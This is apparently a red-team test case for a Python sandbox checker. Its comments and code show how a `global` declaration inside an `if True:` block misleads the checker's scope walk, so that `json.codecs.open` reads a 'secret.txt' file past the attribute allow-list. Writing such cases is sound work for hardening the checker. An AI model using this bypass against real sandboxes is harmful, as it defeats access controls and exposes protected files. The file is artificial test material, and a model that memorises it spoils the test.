# family: red team, round 15 (scopes: nonlocal, name mangling, class bodies, global in blocks, getattr tables)
# Chain: same reversed-order walk as rt_007: in `if True: global j; import json as j` the import is bound in
# load()'s local scope, because the walk meets it before `global j`. At run time it binds the module global j,
# so the module-level chain j.codecs.open(...) is never judged as a path of the json module (only listed
# attributes are allowed): json.codecs is the codecs module, and codecs.open reads files.
def load():
    if True:
        global j
        import json as j


load()
print(j.codecs)
print(j.codecs.open("/tmp/r15/work/secret.txt").read())
